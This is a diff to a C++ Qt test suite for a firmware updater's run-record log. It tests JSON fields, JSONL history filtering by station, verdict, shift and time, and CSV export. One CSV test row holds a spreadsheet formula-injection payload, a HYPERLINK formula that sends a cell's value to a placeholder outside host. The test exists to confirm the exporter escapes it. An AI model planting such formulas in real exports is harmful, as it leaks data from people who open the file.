@@ -1,9 +1,12 @@
 // The update record: what its JSON line holds, where the file goes, that lines appended by many
-// threads and a second program at once stay whole, and how the history reads and shows them.
+// threads and a second program at once stay whole, and how the history reads, filters and shows
+// them.
 
-#include "update/RunRecord.h"
+#include "record/RecordCsv.h"
 #include "record/RecordFile.h"
+#include "record/RecordFilter.h"
 #include "record/RecordHistory.h"
+#include "update/RunRecord.h"
 
 #include "OpenFilesAsNobody.h"
 #include "SysfsTree.h"
@@ -11,6 +14,7 @@
 #include <QCryptographicHash>
 #include <QJsonDocument>
 #include <QProcess>
+#include <QRegularExpression>
 #include <QSet>
 #include <QSysInfo>
 #include <QTemporaryDir>
@@ -139,6 +143,33 @@ bool WaitsForLock(qint64 pid) {
     return false;
 }
 
+// The record's lines that the filter tests choose from, named by their port. Local time is CET
+// (UTC+1) in December. The old line was written before records had an id and a station.
+QByteArray MixedRecordFile() {
+    const auto record = [](const char* port, const char* station, const char* verdict, const char* end) {
+        UpdateRecord made = ProgramFailure();
+        made.port = port;
+        made.station = station;
+        made.verdict = verdict;
+        made.started = Utc(end).addSecs(-180);
+        made.ended = Utc(end);
+        return QJsonDocument(ToJson(made)).toJson(QJsonDocument::Compact) + '\n';
+    };
+    QByteArray file = record("A", "east", "success", "2026-12-07T22:59:59.999Z"); // Dec 7, 23:59:59.999
+    file += record("B", "west", "failure", "2026-12-08T08:00:00.000Z");
+    file += R"({"port":"OLD","verdict":"failure","end":"2026-12-08T12:00:00.000Z","shift":null})"
+            "\n";
+    QJsonObject unended =
+        QJsonDocument::fromJson(record("C", "west", "aborted", "2026-12-08T10:00:00.000Z")).object();
+    unended.insert("end", QJsonValue::Null);
+    unended.insert("update_file_sha256", QString(64, u'c'));
+    unended.insert("identification", "RQ-70 Boot 2.0");
+    file += QJsonDocument(unended).toJson(QJsonDocument::Compact) + '\n';
+    file += record("D", "east", "failure", "2026-12-08T22:59:59.999Z"); // Dec 8, 23:59:59.999
+    file += record("E", "east", "success", "2026-12-08T23:00:00.000Z"); // Dec 9, 00:00
+    return file;
+}
+
 int ModeOf(const QString& path) {
     struct stat status {};
     return ::stat(QFile::encodeName(path).constData(), &status) == 0 ? int(status.st_mode & 07777) : -1;
@@ -177,7 +208,12 @@ private slots:
     }
 
     void jsonOfAFailedUpdate() {
+        UpdateRecord record = ProgramFailure();
+        record.id = "0f1e2d3c4b5a69788796a5b4c3d2e1f0";
+        record.station = "line-3/bench-2";
         const QJsonObject expected{
+            {"id", "0f1e2d3c4b5a69788796a5b4c3d2e1f0"},
+            {"station", "line-3/bench-2"},
             {"start", "2026-12-07T16:40:01.123Z"},
             {"end", "2026-12-07T16:42:57.323Z"},
             {"duration_s", 176.2},
@@ -202,16 +238,19 @@ private slots:
             {"slot", 3},
             {"note", "batch 17"},
         };
-        QCOMPARE(ToJson(ProgramFailure()), expected);
+        QCOMPARE(ToJson(record), expected);
     }
 
-    // What is not known is there as null, never left out; host and user are found out.
+    // What is not known is there as null, never left out; host, user and station are found out,
+    // and every record, also one made by a run, has an id that no other has.
     void jsonOfAnEmptyRecord() {
         qputenv("USER", "tech");
         const QJsonObject json = ToJson(UpdateRecord{});
         QStringList keys = json.keys();
         keys.sort();
-        QStringList expectedKeys{"start",
+        QStringList expectedKeys{"id",
+                                 "station",
+                                 "start",
                                  "end",
                                  "duration_s",
                                  "host",
@@ -241,7 +280,22 @@ private slots:
                                 "reason", "shift", "slot", "note"})
             QVERIFY2(json.value(key).isNull(), key);
         QCOMPARE(json.value("host").toString(), QSysInfo::machineHostName());
+        QCOMPARE(json.value("station").toString(), QSysInfo::machineHostName());
         QCOMPARE(json.value("user").toString(), QString("tech"));
+
+        UpdateRecord onAnotherHost;
+        onAnotherHost.host = "line-4";
+        QCOMPARE(ToJson(onAnotherHost).value("station").toString(), QString("line-4"));
+
+        const QRegularExpression hex128("^[0-9a-f]{32}$");
+        QSet<QString> ids{json.value("id").toString()};
+        const RunContext context;
+        for (int n = 0; n < 1000; ++n)
+            ids << (n % 2 ? NewRecordId()
+                          : ToJson(RecordOfRun(context, UpdateResult{})).value("id").toString());
+        QCOMPARE(ids.size(), 1001);
+        for (const QString& id : ids)
+            QVERIFY2(hex128.match(id).hasMatch(), qPrintable(id));
     }
 
     // An adapter pulled half way through the update: the record still names the cradle as it was
@@ -371,6 +425,7 @@ private slots:
 
     void appendedRecordsReadBack() {
         const QString path = dir_->filePath("state/rq70-updater/updates.jsonl");
+        const UpdateRecord failure = ProgramFailure();
         UpdateRecord success = ProgramFailure();
         success.verdict = "success";
         success.failedPhase.clear();
@@ -378,7 +433,7 @@ private slots:
         success.reason.clear();
         success.identification = "RQ-70 4.2 \"ü\" \\";
 
-        QCOMPARE(AppendUpdateRecord(path, ProgramFailure()), QString());
+        QCOMPARE(AppendUpdateRecord(path, failure), QString());
         QCOMPARE(AppendUpdateRecord(path, success), QString());
 
         // The folders made for the record are the owner's alone.
@@ -394,7 +449,7 @@ private slots:
         const RecordHistory history = ReadUpdateRecords(path, 0);
         QCOMPARE(history.error, QString());
         QCOMPARE(history.unreadableLines, 0);
-        QCOMPARE(history.records, (QList<QJsonObject>{ToJson(ProgramFailure()), ToJson(success)}));
+        QCOMPARE(history.records, (QList<QJsonObject>{ToJson(failure), ToJson(success)}));
     }
 
     void aRecordThatMayOnlyBeWrittenToIsAppendedTo() {
@@ -634,6 +689,160 @@ private slots:
                                                 "-                    -             -        -               "
                                                 "     -                  -                    -\n");
         QCOMPARE(FormatRecordTable(records), expected);
+    }
+
+    // Quoting and the formula guard on a real record's line, one text at a time; the other cells as
+    // JSON has them (numbers as written, null empty), and a line without most keys (an old one)
+    // as empty cells.
+    void csvOfRecords_data() {
+        QTest::addColumn<QString>("key");
+        QTest::addColumn<QString>("text");
+        QTest::addColumn<QString>("cell");
+        QTest::newRow("plain text") << "identification"
+                                    << "RQ-70 Boot 1.0"
+                                    << "RQ-70 Boot 1.0";
+        QTest::newRow("a formula") << "identification"
+                                   << R"x(=HYPERLINK("http://x.example/?"&A1,"RQ-70"))x"
+                                   << R"x("'=HYPERLINK(""http://x.example/?""&A1,""RQ-70"")")x";
+        QTest::newRow("quote, comma and newline") << "note"
+                                                  << "batch \"17\", tray 3\nsecond line"
+                                                  << "\"batch \"\"17\"\", tray 3\nsecond line\"";
+        QTest::newRow("a number as text") << "note"
+                                          << "-1"
+                                          << "'-1";
+        QTest::newRow("@") << "usb_serial"
+                           << "@x"
+                           << "'@x";
+        QTest::newRow("plus") << "note"
+                              << "+49 1234"
+                              << "'+49 1234";
+        QTest::newRow("TAB first") << "reason"
+                                   << "\tcmd"
+                                   << "'\tcmd";
+        QTest::newRow("CR first") << "reason"
+                                  << "\r=1"
+                                  << "\"'\r=1\"";
+        QTest::newRow("CR LF inside") << "reason"
+                                      << "a\r\nb"
+                                      << "\"a\r\nb\"";
+        QTest::newRow("a station with a comma") << "station"
+                                                << "line 3, bench 2"
+                                                << "\"line 3, bench 2\"";
+    }
+    void csvOfRecords() {
+        QFETCH(QString, key);
+        QFETCH(QString, text);
+        QFETCH(QString, cell);
+        UpdateRecord record = ProgramFailure();
+        record.id = "0f1e2d3c4b5a69788796a5b4c3d2e1f0";
+        QJsonObject line = ToJson(record);
+        line.insert(key, text);
+        const QJsonObject old{{"port", "COM1"}, {"verdict", "success"}, {"duration_s", 31}};
+
+        QStringList cells{"0f1e2d3c4b5a69788796a5b4c3d2e1f0",
+                          "line-3",
+                          "2026-12-07-late",
+                          "3",
+                          "2026-12-07T16:40:01.123Z",
+                          "2026-12-07T16:42:57.323Z",
+                          "176.2",
+                          "/dev/ttyUSB0",
+                          "/dev/ttyUSB0",
+                          "A10K3XQ",
+                          "",
+                          "failure",
+                          "program",
+                          "261",
+                          "read-back differs at word 261",
+                          "/home/tech/fw/RQ70-4.2.KRV",
+                          "48213",
+                          "87b5f9aa3395bf658fd3eecb5a2c77bef49c7297c7739beb061129d6c390911d",
+                          "batch 17",
+                          "line-3",
+                          "tech",
+                          "rq70-flash",
+                          "1.2.0"};
+        const QString header = "id,station,shift,slot,start,end,duration_s,port,device_path,usb_serial,"
+                               "identification,verdict,failed_phase,failed_word,reason,update_file,"
+                               "update_file_size,update_file_sha256,note,host,user,program,version";
+        const QStringList columns = header.split(',');
+        QVERIFY(columns.contains(key));
+        cells[columns.indexOf(key)] = cell;
+        const QString oldRow = ",,,,,,31,COM1,,,,success,,,,,,,,,,,";
+        QCOMPARE(RecordsCsv({line, old}), header + "\r\n" + cells.join(',') + "\r\n" + oldRow + "\r\n");
+        QCOMPARE(RecordsCsv({}), header + "\r\n");
+    }
+
+    // One record file of two stations, every verdict, times around a day's edges, a line without an
+    // end and one from before records had an id and a station: each filter keeps the right lines,
+    // and --last counts the lines it kept. A filter is "key=value;..."; since and until are read as
+    // the command line gives them.
+    void filtersNarrowTheHistory_data() {
+        QTest::addColumn<QString>("filter");
+        QTest::addColumn<int>("last");
+        QTest::addColumn<QStringList>("ports");
+        const QString sha256 = ProgramFailure().updateFileSha256;
+        QTest::newRow("none") << "" << 0 << QStringList{"A", "B", "OLD", "C", "D", "E"};
+        QTest::newRow("station") << "station=east" << 0 << QStringList{"A", "D", "E"};
+        QTest::newRow("station, not the old line") << "station=west" << 0 << QStringList{"B", "C"};
+        QTest::newRow("verdict") << "verdict=failure" << 0 << QStringList{"B", "OLD", "D"};
+        QTest::newRow("station and verdict, last 1")
+            << "station=east;verdict=failure" << 1 << QStringList{"D"};
+        QTest::newRow("last 2 of a station") << "station=east" << 2 << QStringList{"D", "E"};
+        QTest::newRow("shift") << "shift=2026-12-07-late" << 0 << QStringList{"A", "B", "C", "D", "E"};
+        QTest::newRow("identification contains") << "identification=Boot 2" << 0 << QStringList{"C"};
+        QTest::newRow("identification, case matters") << "identification=boot" << 0 << QStringList{};
+        QTest::newRow("file, upper case")
+            << "sha256=" + sha256.toUpper() << 0 << QStringList{"A", "B", "D", "E"};
+        QTest::newRow("until a date: the whole day")
+            << "until=2026-12-08" << 0 << QStringList{"A", "B", "OLD", "C", "D"};
+        QTest::newRow("since a date: from midnight")
+            << "since=2026-12-08" << 0 << QStringList{"B", "OLD", "C", "D", "E"};
+        QTest::newRow("one day") << "since=2026-12-08;until=2026-12-08" << 0
+                                 << QStringList{"B", "OLD", "C", "D"};
+        QTest::newRow("until a local minute, the start of a line without end")
+            << "until=2026-12-08T10:57" << 0 << QStringList{"A", "B", "C"};
+        QTest::newRow("since, UTC with milliseconds")
+            << "since=2026-12-08T08:00:00.001Z" << 0 << QStringList{"OLD", "C", "D", "E"};
+        QTest::newRow("since, both ends included, with an offset")
+            << "since=2026-12-08 10:00:00+02:00;until=2026-12-08 13:00:00+0100" << 0
+            << QStringList{"B", "OLD", "C"};
+    }
+    void filtersNarrowTheHistory() {
+        QFETCH(QString, filter);
+        QFETCH(int, last);
+        const QString path = dir_->filePath("updates.jsonl");
+        QVERIFY(WriteFile(path, MixedRecordFile()));
+        RecordFilter chosen;
+        for (const QString& part : filter.split(';', Qt::SkipEmptyParts)) {
+            const QString key = part.section('=', 0, 0);
+            const QString value = part.section('=', 1);
+            if (key == "since" || key == "until")
+                QCOMPARE(ParseFilterTime(value, key == "until", key == "until" ? chosen.until : chosen.since),
+                         QString());
+            else
+                (key == "station"          ? chosen.station
+                 : key == "verdict"        ? chosen.verdict
+                 : key == "shift"          ? chosen.shift
+                 : key == "identification" ? chosen.identification
+                                           : chosen.fileSha256) = value;
+        }
+        const RecordHistory history = ReadUpdateRecords(path, last, chosen);
+        QCOMPARE(history.error, QString());
+        QCOMPARE(history.unreadableLines, 0);
+        QTEST(Ports(history.records), "ports");
+        for (const QJsonObject& record : history.records) {
+            if (record.value("port") == "OLD")
+                QVERIFY(record.value("id").isUndefined() && record.value("station").isUndefined());
+        }
+
+        // What is no time is refused, with the forms that are.
+        for (const QString wrong : {"2026-02-30", "14:30", "2026-12-08T24:00", "2026-12-08 14:30 CET",
+                                    "08.12.2026", "2026-12-08T14:30+25:00", ""}) {
+            QDateTime time;
+            const QString error = ParseFilterTime(wrong, false, time);
+            QVERIFY2(error.contains("2026-12-08T14:30"), qPrintable(wrong + ": " + error));
+        }
     }
 
     void updateFileFacts_data() {
